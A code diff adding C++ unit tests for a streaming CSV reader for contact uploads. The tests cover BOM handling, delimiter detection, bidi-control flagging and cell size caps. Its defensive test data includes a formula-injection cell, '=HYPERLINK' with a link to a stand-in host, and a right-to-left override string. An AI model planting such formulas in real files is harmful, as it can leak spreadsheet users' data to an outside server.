@@ -1,13 +1,14 @@
 // SPDX-License-Identifier: AGPL-3.0-or-later
 // Tests for io/csv_reader: RFC 4180 streaming reader for contact uploads.
 // Hostile cases (security-model.md §4 rows 12, 16, 19): formula cells and
-// U+202E delivered verbatim; NUL bytes flagged with their column; a 10 MB cell
-// cut at the 1 MiB cap as a per-row problem while the next row still reads; an
-// unclosed quote; ragged rows (short and long); UTF-8 BOM with mixed CRLF, LF
-// and lone CR; Windows-1252 bytes (auto-detected per row, or declared); a
-// UTF-16 file; a BOM file holding non-UTF-8 bytes; too many cells; empty and
-// header-only files; short reads and every chunk boundary (the same records
-// whatever the chunk size); a failing read callback.
+// U+202E delivered verbatim (bidi controls flagged, marks not); NUL bytes
+// flagged with their column; a 10 MB cell cut at the 1 MiB cap as a per-row
+// problem while the next row still reads; an unclosed quote; ragged rows
+// (short and long); UTF-8 BOM with mixed CRLF, LF and lone CR; Windows-1252
+// bytes (auto-detected per row, or declared); a UTF-16 file; a BOM file
+// holding non-UTF-8 bytes; too many cells; empty and header-only files; short
+// reads and every chunk boundary (the same records whatever the chunk size);
+// a failing read callback.
 #include "io/csv_reader.h"
 
 #include <gtest/gtest.h>
@@ -146,6 +147,40 @@ TEST(CsvReader, LeadingBlankLinesDoNotHideTheHeader) {
   EXPECT_EQ(p.rows[0].line, 4u);
 }
 
+TEST(CsvReader, BomThenBlankLineThenHeaderIsDetectedWhateverTheReadSize) {
+  // Found by csv_reader_fuzz: the BOM counted as the header's content, so
+  // "BOM CR LF" looked like a whole header line and the delimiter was guessed
+  // from whatever the first read had returned after it.
+  const std::string text = "\xEF\xBB\xBF\r\nname\tcity\tzip\nAna\tLagos\t100001\n";
+  for (size_t step : {size_t{1}, size_t{4}, size_t{5}, size_t{6}, size_t{64}}) {
+    CsvOptions o;
+    o.chunk_bytes = 16;
+    Result<CsvReader> r = CsvReader::Open(Trickle(text, step), o);
+    ASSERT_TRUE(r.ok());
+    EXPECT_EQ(r->delimiter(), '\t') << "step " << step;
+    EXPECT_EQ(r->header(), (Cells{"name", "city", "zip"})) << "step " << step;
+    EXPECT_TRUE(r->had_bom());
+  }
+}
+
+TEST(CsvReader, DelimiterDetectionLooksOnlyAtTheFilesFirstWindow) {
+  // The header line is looked at when it starts within max_record_bytes + 3
+  // bytes (at least 19) of the file's start, whatever the reads return.
+  CsvOptions o;
+  o.max_cell_bytes = 8;
+  o.max_record_bytes = 16;
+  for (size_t blank : {size_t{3}, size_t{18}, size_t{19}, size_t{40}}) {
+    const std::string text = std::string(blank, '\n') + "a;b;c\n1;2;3\n";
+    const char want = blank < 19 ? ';' : ',';
+    for (size_t step : {size_t{1}, size_t{7}, size_t{1} << 16}) {
+      o.chunk_bytes = step == 1 ? 16 : 1 << 16;
+      Result<CsvReader> r = CsvReader::Open(Trickle(text, step), o);
+      ASSERT_TRUE(r.ok());
+      EXPECT_EQ(r->delimiter(), want) << blank << " blank lines, step " << step;
+    }
+  }
+}
+
 TEST(CsvReader, ExcelSepLineNamesDelimiterAndIsSkipped) {
   Parsed p = Parse("sep=;\r\nfirst;last\r\nAna;Lopez\r\n");
   EXPECT_EQ(p.delimiter, ';');
@@ -210,8 +245,38 @@ TEST(CsvReader, FormulasAndBidiAreDeliveredVerbatim) {
   ASSERT_EQ(p.rows.size(), 2u);
   EXPECT_EQ(p.rows[0].cells[0], "=HYPERLINK(\"http://x/?\"&A2)");
   EXPECT_EQ(p.rows[0].cells[1], "@SUM(1)");
+  EXPECT_EQ(p.rows[0].issues, 0u);
   EXPECT_EQ(p.rows[1].cells[0], "\xE2\x80\xAE" "evil");
-  EXPECT_EQ(p.rows[1].issues, 0u);
+  // Kept, but flagged so the importer can warn (§4 row 16).
+  EXPECT_EQ(p.rows[1].issues, Bit(CsvIssue::kBidiControl));
+}
+
+TEST(CsvReader, BidiControlsAreFlaggedWithColumnNotDamage) {
+  std::istringstream in("name,city,note\n"
+                        "Ana,Lagos,\xE2\x81\xA7" "x\xE2\x81\xA9\n"   // RLI .. PDI in column 3
+                        "\xD7\xA9\xD7\xA8\xD7\x94\xE2\x80\x8F,Haifa,\n"  // Hebrew name + RLM: not flagged
+                        "Bo,\xE2\x80\xAE" "sogaL,\n");              // RLO in column 2
+  Result<CsvReader> r = CsvReader::Open(in);
+  ASSERT_TRUE(r.ok());
+  CsvRecord rec;
+  ASSERT_TRUE(*r->Next(rec));
+  EXPECT_TRUE(rec.has(CsvIssue::kBidiControl));
+  EXPECT_FALSE(rec.damaged());
+  EXPECT_EQ(rec.bidi_column(), 2u);
+  EXPECT_EQ(rec.Describe(),
+            "text-direction control character U+2067 in column 3 (kept as typed; it can make text "
+            "around it display out of order where it is not isolated, as in a spreadsheet)");
+  ASSERT_TRUE(*r->Next(rec));
+  EXPECT_EQ(rec.issues(), 0u);
+  EXPECT_EQ(rec.bidi_column(), SIZE_MAX);
+  ASSERT_TRUE(*r->Next(rec));
+  EXPECT_EQ(rec.bidi_column(), 1u);
+  EXPECT_EQ(rec[1], "\xE2\x80\xAE" "sogaL");
+  EXPECT_EQ(r->stats().bidi, 2u);
+  // Windows-1252 text cannot hold one; a transcoded row is not flagged.
+  Parsed latin = Parse("name\nJos\xE9 \xE2\x80\xAE\n");
+  ASSERT_EQ(latin.rows.size(), 1u);
+  EXPECT_EQ(latin.rows[0].issues & Bit(CsvIssue::kBidiControl), 0u);
 }
 
 TEST(CsvReader, NulBytesAreFlaggedWithTheirColumnAndKept) {
@@ -339,6 +404,33 @@ TEST(CsvReader, RecordSizeIsCapped) {
   EXPECT_EQ(p.rows[1].cells, (Cells{"ok"}));
 }
 
+TEST(CsvReader, CellCapSeesTheWholeCellAfterTheRecordIsCut) {
+  // Found by csv_reader_fuzz: once the record was cut, a later cell's length
+  // was measured by what was stored (nothing), so a cell over the cap was
+  // flagged or not depending on where the reads split it.
+  CsvOptions o;
+  o.max_cell_bytes = 8;
+  o.max_record_bytes = 16;
+  o.has_header = false;
+  const std::string text = "12345678,12345678,123456789\nok\n";
+  for (size_t chunk : {16u, 17u, 64u}) {
+    for (size_t step : {size_t{1}, size_t{5}, size_t{9}, chunk}) {
+      o.chunk_bytes = chunk;
+      Result<CsvReader> r = CsvReader::Open(Trickle(text, step), o);
+      ASSERT_TRUE(r.ok());
+      CsvRecord rec;
+      ASSERT_TRUE(*r->Next(rec));
+      EXPECT_EQ(rec.issues(), Bit(CsvIssue::kCellTooLarge) | Bit(CsvIssue::kRecordTooLarge))
+          << "chunk " << chunk << " step " << step;
+      EXPECT_EQ(rec.issue_column(), 2u) << "chunk " << chunk << " step " << step;
+      EXPECT_EQ(rec.size(), 3u);
+      EXPECT_EQ(rec[2], "");  // the record was full
+      ASSERT_TRUE(*r->Next(rec));
+      EXPECT_EQ(rec[0], "ok");
+    }
+  }
+}
+
 TEST(CsvReader, WithoutHeaderEveryLineIsARow) {
   CsvOptions o;
   o.has_header = false;
@@ -363,6 +455,23 @@ TEST(CsvReader, LineOfDelimitersIsAnAllEmptyRow) {
   ASSERT_TRUE(*r->Next(rec));
   EXPECT_EQ(rec.size(), 3u);
   EXPECT_TRUE(rec.AllEmpty());
+}
+
+TEST(CsvReader, LineOfBlanksIsAnAllEmptyRowButNotOneWithText) {
+  std::istringstream in("a,b,c\n  ,\t,\" \"\n   \n \t x,,\n\"\",\"\",\"\"\n");
+  Result<CsvReader> r = CsvReader::Open(in);
+  ASSERT_TRUE(r.ok());
+  CsvRecord rec;
+  ASSERT_TRUE(*r->Next(rec));
+  EXPECT_EQ(rec.size(), 3u);
+  EXPECT_TRUE(rec.AllEmpty());  // spaces, a tab, quoted spaces
+  ASSERT_TRUE(*r->Next(rec));
+  EXPECT_TRUE(rec.AllEmpty());  // a line of spaces (and a short row)
+  EXPECT_TRUE(rec.has(CsvIssue::kFewerFields));
+  ASSERT_TRUE(*r->Next(rec));
+  EXPECT_FALSE(rec.AllEmpty());
+  ASSERT_TRUE(*r->Next(rec));
+  EXPECT_TRUE(rec.AllEmpty());  // quoted empty cells
 }
 
 // Property: the records do not depend on where chunk boundaries fall or how
